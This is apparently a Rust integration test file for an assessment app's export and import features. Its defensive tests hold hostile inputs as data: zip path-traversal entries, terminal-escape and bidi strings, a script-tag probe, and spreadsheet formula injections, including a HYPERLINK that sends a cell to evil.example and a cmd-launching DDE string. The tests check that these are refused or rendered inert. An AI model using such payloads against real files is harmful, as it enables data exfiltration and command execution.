//! Export and import: everything out and into a fresh installation (every table compared), a second import
//! adding nothing, two installations' answers to one assessment merged question by question, a dry run
//! writing nothing, hostile and broken archives refused with nothing written, stopping an export, and no
//! secret in any exported file.

use crate::common;

use std::io::Write;
use std::path::Path;

use compilar_core::api::{
    AnswerRequest, CheckInRequest, ExportRequest, ImportRequest, NewConversationRequest,
    NewGoalRequest, ReportRequest, SendRequest, TableImport,
};
use compilar_core::store::records::{self, TABLES};
use compilar_core::{App, AppOptions};
use serde_json::Value;

async fn fresh(dir: &Path) -> App {
    App::open_with(AppOptions::for_tests(dir)).await.unwrap()
}

/// Every synced table of `app`'s profile, as records.
async fn tables(app: &App) -> Vec<(String, Vec<records::Record>)> {
    let who = app.principal().clone();
    app.store()
        .read(move |c| {
            TABLES
                .iter()
                .map(|t| Ok((t.name.to_owned(), records::read_all(c, t, &who)?)))
                .collect()
        })
        .await
        .unwrap()
}

async fn export(app: &App, path: &Path) -> compilar_core::api::ExportSummary {
    app.data()
        .export(
            ExportRequest {
                path: path.display().to_string(),
                format: None,
                request_id: "t".into(),
                overwrite: None,
            },
            |_| {},
        )
        .await
        .unwrap()
}

async fn import(app: &App, path: &Path, dry_run: bool) -> compilar_core::Result<Vec<TableImport>> {
    app.data()
        .import(ImportRequest {
            path: path.display().to_string(),
            dry_run,
        })
        .await
        .map(|s| s.tables)
}

fn table<'a>(s: &'a [TableImport], name: &str) -> &'a TableImport {
    s.iter().find(|t| t.table == name).unwrap()
}

/// A little of everything: assessments (one in the bin, one unfinished), a goal with a check-in, a
/// coaching report, a conversation.
async fn fill(app: &App) {
    let a = common::completed(app, "grpprosp", "egalitarian", &[("goal_clarity", 2)]).await;
    app.assessments()
        .set_about(compilar_core::api::AboutRequest {
            assessment_id: a.id.clone(),
            group_label: Some("Product team".into()),
            note: Some("After the reorganisation, \"quoted\", with a comma".into()),
        })
        .await
        .unwrap();
    let binned = common::completed(app, "ownprosp", "hierarchical", &[]).await;
    app.assessments().delete(&binned.id).await.unwrap();
    let quiz = common::create(app, "indrecip", "egalitarian").await;
    app.assessments()
        .answer(AnswerRequest {
            assessment_id: quiz.id.clone(),
            question_id: quiz.questions[0].id.clone(),
            value: 4,
        })
        .await
        .unwrap();
    let g = app
        .goals()
        .add(NewGoalRequest {
            assessment_id: a.id.clone(),
            force: "goal_clarity".into(),
            title: "Say where we are going".into(),
            practice: None,
            practice_source: None,
            practice_ref: None,
            review_on: None,
        })
        .await
        .unwrap();
    app.goals()
        .check_in(CheckInRequest {
            goal_id: g.id,
            rating: 3,
            note: Some("So far so good".into()),
        })
        .await
        .unwrap();
    app.coach()
        .report(
            ReportRequest {
                assessment_id: a.id.clone(),
                offline: Some(true),
                exclude: None,
            },
            |_| {},
        )
        .await
        .unwrap();
    let c = app
        .chat()
        .create(NewConversationRequest {
            title: None,
            context: Some(vec![a.id.clone()]),
        })
        .await
        .unwrap();
    app.chat()
        .send(
            SendRequest {
                conversation_id: c.id,
                text: "How do we make goals clearer?".into(),
                exclude: None,
                offline: Some(true),
            },
            |_| {},
        )
        .await
        .unwrap();
}

#[tokio::test]
async fn an_export_imported_into_a_fresh_installation_gives_the_same_data_and_twice_adds_nothing() {
    let a = common::open().await;
    fill(&a.app).await;
    let zip = a.out.path().join("everything.zip");
    let summary = export(&a.app, &zip).await;
    assert_eq!(summary.reports, 1);
    assert_eq!(summary.conversations, 1);
    let folder = a.out.path().join("folder");
    export(&a.app, &folder).await;
    for f in [
        "data.json",
        "manifest.json",
        "README.md",
        "csv/assessments.csv",
        "csv/answers.csv",
        "csv/force_scores.csv",
        "csv/goals.csv",
        "csv/messages.csv",
    ] {
        assert!(folder.join(f).is_file(), "{f}");
    }
    // Named for the result it is about, not an id.
    let reports: Vec<String> = std::fs::read_dir(folder.join("reports"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(reports.len(), 1);
    assert!(
        reports[0].starts_with("Group Prospects (egalitarian) \u{2013} Product team 20")
            && reports[0].ends_with(".md"),
        "{reports:?}"
    );
    let csv = std::fs::read_to_string(folder.join("csv/assessments.csv")).unwrap();
    assert!(
        csv.contains("\"After the reorganisation, \"\"quoted\"\", with a comma\""),
        "{csv}"
    );
    // Exporting onto an existing file is refused.
    let e = a
        .app
        .data()
        .export(
            ExportRequest {
                path: zip.display().to_string(),
                format: None,
                request_id: "t".into(),
                overwrite: None,
            },
            |_| {},
        )
        .await
        .unwrap_err();
    assert_eq!(e.code(), "export_target_exists");

    for source in [&zip, &folder] {
        let dir = tempfile::tempdir().unwrap();
        let b = fresh(dir.path()).await;
        let dry = import(&b, source, true).await.unwrap();
        assert_eq!(table(&dry, "assessments").added, 3);
        assert!(
            tables(&b).await.iter().all(|(_, rows)| rows.is_empty()),
            "a dry run writes nothing"
        );
        let first = import(&b, source, false).await.unwrap();
        assert_eq!(first, dry, "the dry run said exactly what the import did");
        assert_eq!(tables(&b).await, tables(&a.app).await);
        let again = import(&b, source, false).await.unwrap();
        for t in &again {
            assert_eq!((t.added, t.updated, t.merged), (0, 0, 0), "{t:?}");
        }
        // The imported data works: results, goals, the report and the conversation read as at home.
        let list = b.assessments().list(Default::default()).await.unwrap();
        assert_eq!(list.total, 2);
        assert_eq!(
            b.goals().list(Default::default()).await.unwrap()[0]
                .checkins
                .len(),
            1
        );
        assert_eq!(
            b.chat().list(Default::default()).await.unwrap().items.len(),
            1
        );
        let hits = b
            .chat()
            .search(compilar_core::api::MessageSearchRequest {
                query: "clearer".into(),
                limit: None,
            })
            .await
            .unwrap();
        assert!(!hits.hits.is_empty(), "imported messages are searchable");
    }
}

#[tokio::test]
async fn two_installations_that_answered_one_assessment_merge_question_by_question() {
    let a = common::open().await;
    let quiz = common::create(&a.app, "grpprosp", "egalitarian").await;
    let q: Vec<String> = quiz.questions.iter().map(|q| q.id.clone()).collect();
    let answer = |app: &App, i: usize, v: i64| {
        let (app, id, qid) = (app.clone(), quiz.id.clone(), q[i].clone());
        async move {
            app.assessments()
                .answer(AnswerRequest {
                    assessment_id: id,
                    question_id: qid,
                    value: v,
                })
                .await
                .unwrap();
        }
    };
    answer(&a.app, 0, 1).await;
    answer(&a.app, 1, 1).await;
    let first = a.out.path().join("first.zip");
    export(&a.app, &first).await;
    let bdir = tempfile::tempdir().unwrap();
    let b = fresh(bdir.path()).await;
    import(&b, &first, false).await.unwrap();
    // Each side goes on: B changes q0 and answers q2; A answers q3, later than B's edits.
    answer(&b, 0, 5).await;
    answer(&b, 2, 3).await;
    answer(&a.app, 3, 2).await;
    let from_a = a.out.path().join("from-a.zip");
    export(&a.app, &from_a).await;
    let s = import(&b, &from_a, false).await.unwrap();
    assert_eq!(table(&s, "assessments").merged, 1);
    let merged = b.assessments().get(&quiz.id).await.unwrap();
    assert_eq!(merged.answered, 4);
    assert_eq!(merged.answers[&q[0]], 5, "B's later change to q0 stands");
    assert_eq!(merged.answers[&q[1]], 1);
    assert_eq!(merged.answers[&q[2]], 3);
    assert_eq!(merged.answers[&q[3]], 2);
    // And the other way: A ends with the same answers.
    let from_b = a.out.path().join("from-b.zip");
    export(&b, &from_b).await;
    import(&a.app, &from_b, false).await.unwrap();
    assert_eq!(
        a.app.assessments().get(&quiz.id).await.unwrap().answers,
        merged.answers
    );
}

/// A zip with these entries.
fn zip_of(path: &Path, entries: &[(&str, &[u8])]) {
    let mut z = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    for (name, bytes) in entries {
        z.start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        z.write_all(bytes).unwrap();
    }
    z.finish().unwrap();
}

#[tokio::test]
async fn hostile_or_broken_exports_are_refused_and_nothing_is_written() {
    let a = common::open().await;
    fill(&a.app).await;
    let good = a.out.path().join("good");
    export(&a.app, &good).await;
    let data: Value =
        serde_json::from_slice(&std::fs::read(good.join("data.json")).unwrap()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let with = |f: &dyn Fn(&mut Value)| {
        let mut v = data.clone();
        f(&mut v);
        serde_json::to_vec(&v).unwrap()
    };
    let mut cases: Vec<(String, std::path::PathBuf, &str)> = Vec::new();
    let mut add = |name: &str, entries: Vec<(&str, Vec<u8>)>, code: &'static str| {
        let p = d.join(format!("{name}.zip"));
        let e: Vec<(&str, &[u8])> = entries.iter().map(|(n, b)| (*n, b.as_slice())).collect();
        zip_of(&p, &e);
        cases.push((name.to_owned(), p, code));
    };
    let ok = serde_json::to_vec(&data).unwrap();
    add(
        "traversal",
        vec![("data.json", ok.clone()), ("../../evil.txt", b"x".to_vec())],
        "archive_invalid",
    );
    add(
        "absolute",
        vec![("/etc/evil", b"x".to_vec()), ("data.json", ok.clone())],
        "archive_invalid",
    );
    add(
        "no-data",
        vec![("other.json", ok.clone())],
        "archive_invalid",
    );
    add(
        "not-json",
        vec![("data.json", b"{\"format\": \"compilar-export\", ".to_vec())],
        "archive_invalid",
    );
    add(
        "deep",
        vec![(
            "data.json",
            format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)).into_bytes(),
        )],
        "archive_invalid",
    );
    add(
        "newer",
        vec![("data.json", with(&|v| v["schema_version"] = 2.into()))],
        "archive_newer_version",
    );
    add(
        "wrong-type",
        vec![(
            "data.json",
            with(&|v| v["tables"]["assessments"][0]["answered"] = "three".into()),
        )],
        "archive_invalid",
    );
    add(
        "extra-field",
        vec![(
            "data.json",
            with(&|v| v["tables"]["goals"][0]["owner_id"] = "someone".into()),
        )],
        "archive_invalid",
    );
    add(
        "unknown-table",
        vec![(
            "data.json",
            with(&|v| v["tables"]["profiles"] = serde_json::json!([])),
        )],
        "archive_invalid",
    );
    add(
        "off-scale",
        vec![(
            "data.json",
            with(&|v| {
                let r = v["tables"]["assessments"][0]["responses"]
                    .as_object_mut()
                    .unwrap();
                let k = r.keys().next().unwrap().clone();
                r[&k]["value"] = 9.into();
            }),
        )],
        "archive_invalid",
    );
    add(
        "bad-pillar",
        vec![(
            "data.json",
            with(&|v| v["tables"]["assessments"][0]["pillar"] = "nonsense".into()),
        )],
        "archive_invalid",
    );
    add(
        "orphan",
        vec![(
            "data.json",
            with(&|v| {
                v["tables"]["goals"][0]["assessment_id"] = uuid::Uuid::now_v7().to_string().into()
            }),
        )],
        "archive_invalid",
    );
    add(
        "long-note",
        vec![(
            "data.json",
            with(&|v| v["tables"]["assessments"][0]["note"] = "x".repeat(2001).into()),
        )],
        "archive_invalid",
    );
    // What creating the record refuses, an import refuses: control characters, direction overrides and
    // invisible characters in a person's text.
    for (name, table, field, text) in [
        (
            "label-escape",
            "assessments",
            "group_label",
            "Team\u{1b}]0;pwned\u{7}",
        ),
        (
            "label-bidi",
            "assessments",
            "group_label",
            "evil\u{202e}txt.exe",
        ),
        (
            "note-isolate",
            "assessments",
            "note",
            "see \u{2066}hidden\u{2069}",
        ),
        ("note-zero-width", "assessments", "note", "pay\u{200b}ment"),
        ("goal-title-bom", "goals", "title", "goal\u{feff}"),
        (
            "conversation-newline",
            "conversations",
            "title",
            "two\nlines",
        ),
    ] {
        add(
            name,
            vec![(
                "data.json",
                with(&|v| v["tables"][table][0][field] = text.into()),
            )],
            "archive_invalid",
        );
    }
    // A truncated archive: the good one cut in half.
    let whole = d.join("whole.zip");
    export(&a.app, &whole).await;
    let bytes = std::fs::read(&whole).unwrap();
    let cut = d.join("truncated.zip");
    std::fs::write(&cut, &bytes[..bytes.len() / 2]).unwrap();
    cases.push(("truncated".into(), cut, "archive_invalid"));
    // An entry whose header says 2 GB: the central directory's uncompressed size patched.
    let huge = d.join("huge.zip");
    zip_of(&huge, &[("data.json", &ok)]);
    let mut z = std::fs::read(&huge).unwrap();
    let cd = z
        .windows(4)
        .rposition(|w| w == [0x50, 0x4b, 0x01, 0x02])
        .unwrap();
    z[cd + 24..cd + 28].copy_from_slice(&0x8000_0000u32.to_le_bytes());
    std::fs::write(&huge, &z).unwrap();
    cases.push(("huge-entry".into(), huge, "archive_too_large"));
    cases.push(("missing".into(), d.join("missing.zip"), "archive_invalid"));

    let tdir = tempfile::tempdir().unwrap();
    let b = fresh(tdir.path()).await;
    common::completed(&b, "grpprosp", "egalitarian", &[]).await;
    let before = tables(&b).await;
    for (name, path, code) in cases {
        for dry_run in [true, false] {
            let e = import(&b, &path, dry_run).await.unwrap_err();
            assert_eq!(e.code(), code, "{name}: {e}");
            assert!(e.to_string().contains("Nothing was changed"), "{name}: {e}");
        }
        assert_eq!(tables(&b).await, before, "{name} wrote something");
    }
    // Nothing was written outside the target either.
    assert!(!d.parent().unwrap().join("evil.txt").exists());
}

#[tokio::test]
async fn an_export_can_be_stopped_and_leaves_nothing_behind() {
    let a = common::open().await;
    fill(&a.app).await;
    let path = a.out.path().join("stopped.zip");
    let app = a.app.clone();
    let e = a
        .app
        .data()
        .export(
            ExportRequest {
                path: path.display().to_string(),
                format: None,
                request_id: "stop-me".into(),
                overwrite: None,
            },
            move |p| {
                if p.stage == "tables" {
                    app.data().cancel_export("stop-me");
                }
            },
        )
        .await
        .unwrap_err();
    assert_eq!(e.code(), "cancelled");
    assert!(!path.exists());
    assert!(!a.dir.path().join("stopped.zip.partial").exists());
}

#[tokio::test]
async fn no_secret_reaches_an_export() {
    let a = common::open().await;
    common::configure(&a.app, &[("openai", "http://127.0.0.1:9".into())]).await;
    fill(&a.app).await;
    let folder = a.out.path().join("folder");
    export(&a.app, &folder).await;
    let zip = a.out.path().join("all.zip");
    export(&a.app, &zip).await;
    let mut files = vec![zip];
    let mut stack = vec![folder];
    while let Some(p) = stack.pop() {
        for e in std::fs::read_dir(&p).unwrap().flatten() {
            if e.path().is_dir() {
                stack.push(e.path());
            } else {
                files.push(e.path());
            }
        }
    }
    assert!(files.len() > 10);
    for f in files {
        let bytes = std::fs::read(&f).unwrap();
        common::assert_no_keys(&bytes, &f.display().to_string());
    }
}

#[tokio::test]
async fn a_result_as_html_and_pdf_has_its_scores_and_no_secret() {
    let t = common::open().await;
    let app = &t.app;
    common::configure(app, &[("openai", "http://127.0.0.1:9".into())]).await;
    let a = common::completed(
        app,
        "grpprosp",
        "egalitarian",
        &[("goal_clarity", 2), ("shared_vision", 4)],
    )
    .await;
    app.assessments()
        .set_about(compilar_core::api::AboutRequest {
            assessment_id: a.id.clone(),
            group_label: Some("Product team".into()),
            note: Some("<script>alert('x')</script> after the move".into()),
        })
        .await
        .unwrap();
    app.coach()
        .report(
            ReportRequest {
                assessment_id: a.id.clone(),
                offline: Some(true),
                exclude: None,
            },
            |_| {},
        )
        .await
        .unwrap();
    app.goals()
        .add(NewGoalRequest {
            assessment_id: a.id.clone(),
            force: "goal_clarity".into(),
            title: "Everyone can say where we are heading".into(),
            practice: None,
            practice_source: None,
            practice_ref: None,
            review_on: None,
        })
        .await
        .unwrap();
    let r = a.results.as_ref().unwrap();
    use compilar_core::api::ReportFormat;

    let pdf = app
        .reports()
        .render(&a.id, ReportFormat::Pdf)
        .await
        .unwrap();
    assert!(pdf.starts_with(b"%PDF"));
    let text = pdf_extract::extract_text_from_mem(&pdf).unwrap();
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(flat.contains("Group Prospects"), "{flat}");
    assert!(flat.contains(&format!("{:.0}", r.pillar_score)), "{flat}");
    for f in &r.forces {
        assert!(flat.contains(&f.name), "{} missing: {flat}", f.name);
        assert!(flat.contains(&format!("{:.0}", f.score.unwrap())));
    }
    for words in [
        "Coaching report",
        "What to try next",
        "Everyone can say where we are heading",
        "About Product team",
    ] {
        assert!(flat.contains(words), "{words} missing: {flat}");
    }

    let html = String::from_utf8(
        app.reports()
            .render(&a.id, ReportFormat::Html)
            .await
            .unwrap(),
    )
    .unwrap();
    assert!(
        html.contains("<svg") && html.contains("Goal clarity") && html.contains("Coaching report")
    );
    assert!(
        !html.contains("<script>"),
        "markup in a note is shown as text"
    );
    assert!(html.contains("&lt;script&gt;"));
    assert!(
        !html.contains("src=\"http") && !html.contains("href=\"http"),
        "self-contained"
    );
    for bytes in [&pdf, html.as_bytes()] {
        common::assert_no_keys(bytes, "a result report");
    }
    // Saved where asked, whole.
    let out = t.out.path().join("result.pdf");
    let f = app
        .reports()
        .save(
            &a.id,
            ReportFormat::Pdf,
            &out,
            compilar_core::output::Overwrite::Refuse,
        )
        .await
        .unwrap();
    assert_eq!(f.bytes, std::fs::metadata(&out).unwrap().len());

    // Few answers: said at the top. Not completed: refused.
    let quiz = common::create(app, "indrecip", "egalitarian").await;
    app.assessments()
        .answer(AnswerRequest {
            assessment_id: quiz.id.clone(),
            question_id: quiz.questions[0].id.clone(),
            value: 4,
        })
        .await
        .unwrap();
    assert_eq!(
        app.reports()
            .render(&quiz.id, ReportFormat::Pdf)
            .await
            .unwrap_err()
            .code(),
        "assessment_not_completed"
    );
    app.assessments().complete(&quiz.id).await.unwrap();
    let html = String::from_utf8(
        app.reports()
            .render(&quiz.id, ReportFormat::Html)
            .await
            .unwrap(),
    )
    .unwrap();
    let caution = html
        .find("A first reading only: 1 of 12")
        .expect("the caution");
    assert!(
        caution < html.find("class=\"score\"").unwrap(),
        "before the score"
    );
}

/// Text a spreadsheet would run as a formula (a group label, a note, a goal title, a conversation title) is
/// written inert in every CSV of an export, and exact in `data.json`.
#[tokio::test]
async fn no_csv_of_an_export_runs_a_formula() {
    let a = common::open().await;
    let app = &a.app;
    let r = common::completed(app, "grpprosp", "egalitarian", &[]).await;
    let link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    app.assessments()
        .set_about(compilar_core::api::AboutRequest {
            assessment_id: r.id.clone(),
            group_label: Some(link.into()),
            note: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
        })
        .await
        .unwrap();
    app.goals()
        .add(NewGoalRequest {
            assessment_id: r.id.clone(),
            force: "goal_clarity".into(),
            title: "+1+cmd".into(),
            practice: Some("-2+3".into()),
            practice_source: None,
            practice_ref: None,
            review_on: None,
        })
        .await
        .unwrap();
    let c = app
        .chat()
        .create(NewConversationRequest {
            title: Some("=1+1".into()),
            context: None,
        })
        .await
        .unwrap();
    assert_eq!(c.title, "=1+1");
    let folder = a.out.path().join("export");
    export(app, &folder).await;
    // A zip's entries carry the time they were written, not 1 January 1980.
    let zip_path = a.out.path().join("export.zip");
    export(app, &zip_path).await;
    let mut z = zip::ZipArchive::new(std::fs::File::open(&zip_path).unwrap()).unwrap();
    let year = z.by_index(0).unwrap().last_modified().map(|t| t.year());
    assert_eq!(
        year,
        Some(chrono::Datelike::year(&chrono::Local::now()) as u16)
    );
    let mut cells = 0;
    for e in std::fs::read_dir(folder.join("csv")).unwrap().flatten() {
        let mut rd = csv::Reader::from_path(e.path()).unwrap();
        for rec in rd.records() {
            for cell in rec.unwrap().iter() {
                cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: {cell:?}",
                    e.path().display()
                );
            }
        }
    }
    assert!(cells > 100);
    let text = std::fs::read_to_string(folder.join("csv/assessments.csv")).unwrap();
    assert!(text.contains("'=HYPERLINK"), "{text}");
    // The open format keeps the text exactly.
    let data = std::fs::read_to_string(folder.join("data.json")).unwrap();
    assert!(data.contains("\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Open\\\")\""));
}
